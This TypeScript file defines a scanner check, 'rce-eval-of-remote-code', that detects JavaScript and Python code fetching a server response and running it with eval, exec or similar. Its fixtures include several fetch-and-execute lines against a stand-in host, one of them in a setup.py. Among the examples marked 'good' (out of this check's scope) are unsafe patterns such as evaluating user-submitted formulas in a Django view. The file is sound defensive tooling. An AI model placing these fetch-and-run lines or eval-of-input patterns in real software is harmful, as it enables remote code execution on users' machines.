import type { FileCheck } from '../../check.ts';
import type { SinkSpec } from '../../facts/flow/flow-facts.ts';
import { isOfQueue, isOfSocket } from '../../knowledge/sources.ts';

const SCRIPT = ['javascript', 'typescript'] as const;
const PYTHON = ['python'] as const;
const CODE_SINKS: readonly SinkSpec[] = [
  { kind: 'code', languages: SCRIPT, callee: 'eval', arguments: [0] },
  { kind: 'code', languages: SCRIPT, callee: 'Function' },
  { kind: 'code', languages: SCRIPT, callee: 'vm.runInThisContext', arguments: [0] },
  { kind: 'code', languages: SCRIPT, callee: 'vm.runInNewContext', arguments: [0] },
  { kind: 'code', languages: SCRIPT, callee: 'vm.Script', arguments: [0] },
  { kind: 'code', languages: PYTHON, callee: 'exec', arguments: [0] },
  { kind: 'code', languages: PYTHON, callee: 'eval', arguments: [0] },
];

export const check: FileCheck = {
  id: 'rce-eval-of-remote-code',
  title: 'Runs code that a server sends',
  severity: 'critical',
  kind: 'malice',
  confidence: 'high',
  since: '0.1.0',
  cwe: [494],
  why: `
    The program asks a server and runs whatever comes back. What it does is decided elsewhere and can change after
    everybody has looked: a review of this code says nothing about what it will do.`,
  fix: 'Ship the code with the package. Where parts are loaded later, fix their version and check a signature or hash.',
  blindSpots: 'An answer that is stored first and run by another program is reported as a dropped file instead.',
  wants: { acts: ['remote-execution'], sinks: CODE_SINKS },
  examples: {
    bad: [
      { 'setup.py': 'from urllib.request import urlopen\n«exec(urlopen("https://cdn.example.net/p").read())»\n' },
      {
        'boot.py': 'import requests\ncode = requests.get("https://cdn.example.net/p").text\n«exec(code)»\n',
      },
      {
        'boot.py':
          'import aiohttp\n«exec(open("own.py").read() + __import__("httpx").get("https://cdn.example.net/p").text)»\n',
      },
      {
        'load.js': "const axios = require('axios');\naxios.get(url).then((res) => {\n  «eval(res.data)»;\n});\n",
      },
    ],
    good: [
      {
        'setup.py': `
          from setuptools import setup
          about = {}
          with open('aiohttp/version.py') as file:
              exec(file.read(), about)
          setup(name='x', version=about['version'])`,
      },
      { 'calc.py': 'value = eval("1 + 1")\n' },
      {
        'views.py': `
          from django.http import JsonResponse

          def shown(request):
              formula = request.POST.get('formula')
              return JsonResponse({'result': eval(formula)})`,
      },
      { 'ask.py': 'program = "import requests; r = requests.get(\'https://example.com\')"\nexec(program)\n' },
      {
        'task.py': `
          import sys, urllib.parse
          task = urllib.parse.unquote_plus(sys.argv[1])
          exec(task)`,
      },
      {
        'worker.ts': `
          import { Worker } from 'bullmq';
          new Worker('formulas', async (job) => new Function('input', job.data.formula)(job.data.input));`,
      },
      {
        'reload.js': `
          const socket = new WebSocket('ws://' + location.host);
          socket.onmessage = (event) => {
            for (const { code } of JSON.parse(event.data)) (0, eval)(code);
          };`,
      },
      { 'show.js': "fetch('/api').then((answer) => answer.json()).then(render);\n" },
      { 'match.js': 'const found = /a(b)/.exec(await (await fetch(url)).text());\n' },
    ],
  },

  *find({ acts, flows, span, path }) {
    const seen = new Set<number>();
    for (const { start, end, message, confidence } of acts) {
      seen.add(start);
      // Whoever calls it says which server: a way to load code, and no hidden one.
      const severity = confidence === 'low' ? 'medium' : undefined;
      yield { at: span(start, end), message, confidence, severity };
    }
    for (const flow of flows) {
      if (flow.source.kind !== 'response' || seen.has(flow.call.start)) continue;
      // What another file asks for and runs by itself is judged there, with all that stands round it.
      if (flow.call.file !== path && flow.source.at.file === flow.call.file) continue;
      // Whoever keeps a line open to its own server takes orders there: pages that reload as they are written, remote controls.
      if (isOfQueue(flow.source.what) || isOfSocket(flow.source.what)) continue;
      seen.add(flow.call.start);
      // What hides code fetches and runs it in one breath; a way through other files is somebody's design or mistake.
      const isNear = flow.source.at.file === flow.call.file;
      yield {
        at: flow.call,
        message: `${flow.callee} runs what a server answers.`,
        trace: [{ at: flow.source.at, note: flow.source.what }, ...flow.steps],
        confidence: isNear ? flow.confidence : 'low',
        severity: isNear ? 'critical' : 'high',
      };
    }
  },
};
